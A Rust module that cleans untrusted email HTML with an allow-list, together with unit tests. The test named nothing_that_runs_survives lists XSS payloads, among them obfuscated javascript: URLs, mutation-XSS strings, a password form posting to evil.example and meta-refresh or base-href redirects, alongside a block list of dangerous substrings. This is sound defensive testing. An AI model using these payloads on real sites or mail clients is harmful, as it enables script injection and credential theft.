//! HTML that others wrote, made harmless: no script, no style, no form, nothing that loads by itself but pictures.
//!
//! An allow-list: what is not known to be harmless goes, its text stays. Pure.

mod shape;

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::Builder;
use mail_parser::decoders::html::{html_to_text, text_to_html};

/// Of the cleaner. To be raised when it lets less through: HTML that an earlier one cleaned is cleaned again before it is shown.
pub const VERSION: u64 = 1;

/// Where a plugin says that an element is a quotation of an earlier mail: whoever shows the HTML folds it.
const QUOTED: &str = "data-quoted";

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(builder);

fn builder() -> Builder<'static> {
    let mut builder = Builder::default();
    // `cid` names a file of the same mail.
    builder
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "cid"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .add_generic_attributes([QUOTED, "dir"])
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing", "width"])
        .add_tag_attributes("td", ["width", "valign", "bgcolor"])
        .add_tag_attributes("font", ["color", "size"])
        .add_tags(["font"])
        // What a comment or a template hides is nobody's to read.
        .add_clean_content_tags([
            "title", "template", "noscript", "textarea", "select", "svg", "math", "iframe", "object",
        ])
        .rm_tags(["map", "area"])
        .link_rel(Some("noopener noreferrer nofollow"));
    builder
}

/// The harmless part of it. Cleaning twice changes nothing more. Of HTML that nobody writes for people to read, only the text
/// stays.
pub fn clean(html: &str) -> String {
    if shape::is_absurd(html) {
        return CLEANER.clean(&text_to_html(&html_to_text(html))).to_string();
    }
    CLEANER.clean(html).to_string()
}

/// Cleaned HTML whose pictures are where `place` says; a picture without a place is not loaded.
pub fn with_pictures(html: &str, place: impl Fn(&str) -> Option<String> + Send + Sync + 'static) -> String {
    let mut builder = builder();
    // It was cleaned of relative addresses before; those of its own files are.
    builder.url_relative(ammonia::UrlRelative::PassThrough);
    builder.attribute_filter(move |element, attribute, value| match (element, attribute) {
        ("img", "src") => place(value).map(Cow::from),
        _ => Some(value.into()),
    });
    builder.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_runs_survives() {
        for hostile in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"  jAvAsCrIpT:alert(1)\">x</a>",
            "<a href=\"java&#115;cript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:x\">x</a>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=x></object><embed src=x>",
            "<form action=https://evil.example><input name=password></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>body{background:url(https://evil.example)}</style>",
            "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
            "<template><img src=x onerror=alert(1)></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<img src=\"cid:x\" srcset=\"https://evil.example/x 2x\">",
            "<p onclick=alert(1) onmouseover=\"alert(1)\">x</p>",
            "<body onload=alert(1)>x",
            "<details open ontoggle=alert(1)>x</details>",
            "<!--<img src=x onerror=alert(1)>-->",
        ] {
            let clean = clean(hostile);
            let lower = clean.to_lowercase();
            for bad in [
                "alert",
                "script:",
                "<script",
                "<style",
                "style=",
                "onerror",
                "onclick",
                "onload",
                "srcset",
                "<form",
                "<input",
                "<iframe",
                "<meta",
                "<base",
                "<link",
                "evil.example",
                "data:",
            ] {
                assert!(!lower.contains(bad), "{hostile} became {clean}");
            }
        }
    }

    #[test]
    fn what_people_wrote_stays() {
        let html = "<p>Hi <b>there</b>, <a href=\"https://shop.example/x\">see</a></p><ul><li>one</li></ul>\
                    <img src=\"cid:logo@shop\" alt=\"logo\"><blockquote data-quoted=\"true\">old</blockquote>";
        let clean = clean(html);
        for kept in
            ["<b>there</b>", "https://shop.example/x", "<li>one</li>", "cid:logo@shop", "data-quoted=\"true\"", "old"]
        {
            assert!(clean.contains(kept), "{kept} is gone from {clean}");
        }
    }

    #[test]
    fn cleaning_again_changes_nothing() {
        for html in [
            "<p>a &amp; b<br>c",
            "<a href=\"https://x.example/?a=1&b=2\">x</a>",
            "<table><td>x",
            "a < b",
            "<b><i>x</b></i>",
        ] {
            let once = clean(html);
            assert_eq!(clean(&once), once);
        }
    }

    /// Each of these would take minutes to hours.
    #[test]
    fn html_that_nobody_writes_is_text() {
        let table = "<table>Halo<b>".repeat(50_000);
        let deep = format!("{}Halo <script>alert(1)</script>", "<div>".repeat(200_000));
        let many = format!("{}Halo", (0..50_000).map(|at| format!("<b title={at}><p>")).collect::<String>());
        for html in [table, deep, many] {
            let clean = clean(&html);
            assert!(clean.contains("Halo") && !clean.contains("<div") && !clean.contains("alert"), "{clean:.200}");
        }
    }

    #[test]
    fn a_link_tells_nobody_where_it_was_followed() {
        assert!(clean("<a href=\"https://x.example\">x</a>").contains("noreferrer"));
    }
}
